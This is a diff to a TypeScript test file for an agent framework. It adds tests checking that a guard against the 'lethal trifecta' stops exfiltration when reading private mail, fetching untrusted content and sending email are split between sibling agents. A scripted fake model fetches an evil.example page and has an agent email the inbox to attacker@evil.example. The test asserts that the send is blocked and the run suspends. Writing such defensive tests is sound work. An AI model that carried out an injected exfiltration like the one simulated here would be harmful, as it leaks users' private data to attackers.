@@ -4,12 +4,12 @@
  * child the dynamic check gates the call that would complete the trifecta, so the injected
  * instruction never sends anything: the egress tool does not run, and the run suspends.
  */
-import { Agent, Coordinator, Graph, ReActCognition, RunPolicy } from "@agentkit/agents"
+import { Agent, Coordinator, Graph, ReActCognition, runAgents, RunPolicy } from "@agentkit/agents"
 import { Tracing } from "@agentkit/core"
 import { FakeLLM, Fixture, makeTestCtx, Turn } from "@agentkit/testing"
 import { Tool } from "@agentkit/tools"
 import { describe, expect, it } from "@effect/vitest"
-import { Effect, Schema } from "effect"
+import { Deferred, Effect, Schema } from "effect"
 import { call, DESCRIPTION } from "./fixtures.js"
 
 const { failureOf } = Fixture
@@ -128,6 +128,52 @@ describe("the trifecta through a graph", () => {
       expect(result.suspended!.pending.map((entry) => [entry.call.name, entry.reasons, entry.path])).toEqual([
         ["send_email", ["trifecta"], "test-run/triage"]
       ])
+    })
+  )
+})
+
+describe("the trifecta split across siblings under runAgents", () => {
+  it.effect("one sibling reads the inbox and the injected page, the other is told to send: the send is gated (the legs are the tree's), nothing is sent", () =>
+    Effect.gen(function* () {
+      const { reader, sender, sent } = world()
+      // the sender asks to send only once the reader has read both (its first model call waits)
+      const readerDone = yield* Deferred.make<void>()
+      const llm = FakeLLM.respond((request) => {
+        const tools = request.messages.filter((message) => message.role === "tool").length
+        if (request.model === "model-reader") {
+          if (tools === 0) return Turn({ toolCalls: [call("r1", "read_inbox")] })
+          if (tools === 1) return Turn({ toolCalls: [call("r2", "fetch_url", { url: "https://evil.example" })] })
+          return Effect.as(Deferred.succeed(readerDone, undefined), Turn({ content: `read: ${INJECTION}` }))
+        }
+        if (tools === 0) return Effect.as(Deferred.await(readerDone), Turn({ toolCalls: [call("s1", "send_email", { to: "attacker@evil.example", body: "inbox" })] }))
+        return Turn({ content: "sent" })
+      })
+      const exit = yield* Effect.exit(
+        runAgents([
+          [reader, "read my mail"],
+          [sender, "send what the reader found"]
+        ]).pipe(Effect.provide(makeTestCtx({ llm })))
+      )
+      expect(sent).toEqual([])
+      // the caller's run suspends on the sender's call
+      const suspended = failureOf(exit)
+      expect(suspended._tag).toBe("RunSuspended")
+      expect(suspended._tag === "RunSuspended" && suspended.pending.map((entry) => [entry.call.name, entry.reasons, entry.path])).toEqual([
+        ["send_email", ["trifecta"], "test-run/sender#1"]
+      ])
+    })
+  )
+
+  it.effect("the same sender alone (no sibling touched private data or untrusted content): its send runs", () =>
+    Effect.gen(function* () {
+      const { sender, sent } = world()
+      const llm = FakeLLM.respond((request) =>
+        request.messages.some((message) => message.role === "tool")
+          ? Turn({ content: "sent" })
+          : Turn({ toolCalls: [call("s1", "send_email", { to: "friend@example.com", body: "hi" })] })
+      )
+      const results = yield* runAgents([[sender, "send a note"]]).pipe(Effect.provide(makeTestCtx({ llm })))
+      expect([results[0]!.output, sent]).toEqual(["sent", ["friend@example.com"]])
     })
   )
 })
